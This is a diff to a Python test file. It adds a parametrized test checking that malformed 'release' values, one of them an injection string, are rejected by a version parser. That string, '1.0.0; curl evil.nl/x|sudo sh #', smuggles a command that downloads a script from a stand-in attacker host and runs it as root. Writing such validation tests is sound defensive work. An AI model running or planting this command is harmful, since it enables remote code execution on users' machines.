@@ -118,6 +118,12 @@ def test_a_peer_writes_no_line_of_its_own() -> None:
     assert found["accepted"] == {"release": "a b"}
 
 
+@pytest.mark.parametrize("odd", ["1.0.0; curl evil.nl/x|sudo sh #", "", "x" * 64, 3])
+def test_a_release_of_another_form_than_releases_have_is_that_of_nobody(odd: Any) -> None:
+    """People copy what they are told to run from sentences that name it."""
+    assert "release" not in verbs._version(NETWORK, {**TOLD, "release": odd})
+
+
 def test_a_question_is_asked_of_no_other_set_than_the_one_that_was_chosen(tmp_path: Path) -> None:
     """It was agreed before that set was: what is chosen is who may hold shares."""
     network = Small.make(tmp_path, [("n.a", "n.b", "n.d")]).networks("n.a").find("n")
